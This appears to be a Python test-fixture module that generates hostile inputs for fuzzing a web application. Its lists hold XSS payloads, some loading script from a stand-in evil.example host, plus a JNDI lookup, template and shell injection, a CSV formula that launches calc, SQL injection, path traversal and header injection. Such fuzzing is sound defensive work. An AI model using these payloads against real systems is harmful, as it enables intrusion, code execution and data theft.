"""Texts and bytes that try to run, to break a page or a download, or to be taken for something else. Pure.

Each call of `dialog` would open a dialog, which the browser's page notes.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

CALL = "alert(4711)"
MARKUP = (
    "<script>{call}</script>", "<ScRiPt>{call}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={call}>", "<svg onload={call}>", "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>", "<math><mi xlink:href='javascript:{call}'>x</mi></math>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>", "<iframe src=javascript:{call}></iframe>",
    "<object data=javascript:{call}>", "<embed src=javascript:{call}>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{{background:url(//evil.example/p)}}</style>", "<body onload={call}>", "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>", "<video><source onerror={call}></video>", "<marquee onstart={call}>",
    "<a href=javascript:{call}>x</a>", "<a href='data:text/html,<script>{call}</script>'>x</a>",
    "<form action=javascript:{call}><button>x</button></form>", "<button formaction=javascript:{call}>x</button>",
    "</code></td></tr></table></main><h1>owned</h1><script>{call}</script>", "</textarea><script>{call}</script>",
    "</title><script>{call}</script>", "</script><script>{call}</script>", "--><script>{call}</script><!--",
    "]]><script>{call}</script>", "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>", "<textarea>", "<plaintext>", "<!--", "<table><tr><td>",
    "&lt;script&gt;{call}&lt;/script&gt;", "&#60;script&#62;{call}&#60;/script&#62;", "%3Cscript%3E{call}%3C/script%3E",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="{call}" x="', "' onmouseover='{call}' x='", "` onmouseover=`{call}`", '" autofocus onfocus={call} ',
    '"><img src=x onerror={call}>', "'><svg onload={call}>", "javascript:{call}", "JaVaScRiPt:{call}",
    "java\tscript:{call}", "\x01javascript:{call}", "data:text/html;base64,PHNjcmlwdD5hbGVydCg0NzExKTwvc2NyaXB0Pg==",
    "vbscript:{call}", "//evil.example", "https://evil.example/?<script>", "\\\\evil.example\\share",
)  # fmt: skip
TEMPLATES = (
    "{{{{ 7*7 }}}}", "{{{{ config }}}}", "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}", "{{% raw %}}",
    "{{% include '/etc/passwd' %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "${{jndi:ldap://evil.example/a}}",
    "{{{{constructor.constructor('{call}')()}}}}", "%s%s%s%n", "%(asctime)s", "{{0}}", "$(touch owned)", "`id`",
)  # fmt: skip
CELLS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1"')
SHAPES = (
    '{{"a": "</script><script>{call}</script>"}}', '{{"a": NaN}}', '{{"__proto__": {{"x": 1}}}}', "[" * 500,
    '{{"a":' * 300,
    "'; DROP TABLE records; --", "' OR 1=1 --", "\\", '"', "'", "`", "\u2028alert(1)\u2029", "null", "undefined",
    "../../../../etc/passwd", "..\\..\\boot.ini", "%00", "%2e%2e%2f", "a\r\nset-cookie: x=1", "\r\n\r\n<html>",
)  # fmt: skip
OBEYED = (
    "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200d", "\u200f", "\ufeff", "\u00ad", "\u2028",
    "\x00", "\x07", "\x08", "\x1b[2J", "\x1b]0;t\x07", "\x7f", "\x85", "\U000e0041", "\U000e0001", "\ufffe", "\uffff",
)  # fmt: skip
HEAVY = (
    "Z\u0351\u036b\u0343\u036a" * 60, "\ufdfd" * 80, "W" * 3_000, "\u0600" * 100, "🏳️‍🌈" * 200, "👩‍👩‍👧‍👦" * 200,
    "a " * 1_500, "\n" * 1_000, "\t" * 1_000, " " * 3_000, "\u0e47" * 400, "﷽" * 200, "漢" * 1_000, "𝕏" * 500,
)  # fmt: skip
BROKEN = (
    b"\xff\xfe", b"\xc0\x80", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\x80", b"\xe2\x82", b"\xf0\x9f\x98", b"\x00" * 64,
    b"\x1f\x8b\x08", b"PK\x03\x04", b"%PDF-1.7", b"\x89PNG\r\n\x1a\n", b"GIF89a<script>alert(4711)</script>",
)  # fmt: skip


def texts() -> list[str]:
    """Each text once."""
    patterns = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *SHAPES)
    found = [each.format(call=CALL) if "{" in each else each for each in patterns]
    return [*found, *CELLS, *HEAVY, *(f"a{each}b{each}c" for each in OBEYED)]


def values(count: int, seed: int) -> Iterator[bytes]:
    """Yields `count` different values: first each text and each broken sequence alone, then two to four of them joined,
    drawn by `seed`."""
    chance, known = random.Random(seed), texts()
    parts = [*(each.encode("utf-8", "surrogatepass") for each in known), *BROKEN]
    seen: set[bytes] = set()
    for part in parts:
        if part not in seen and len(seen) < count:
            seen.add(part)
            yield part
    while len(seen) < count:
        value = b"".join(chance.choices(parts, k=chance.randint(2, 4)))[: chance.choice((200, 2_000, 9_000))]
        if value not in seen:
            seen.add(value)
            yield value


def names(count: int, seed: int) -> list[str]:
    """Returns `count` different names for groups, ids, users and headers.

    A name has at most 249 characters and no NUL.
    """
    chance, known = random.Random(seed), [each.replace("\x00", "\u2400") for each in texts()]
    found = list(dict.fromkeys(each[:249] for each in known if each.strip()))
    while len(found) < count:
        name = "".join(chance.choices(known, k=2))[:249]
        if name.strip() and name not in found:
            found.append(name)
    return found[:count]
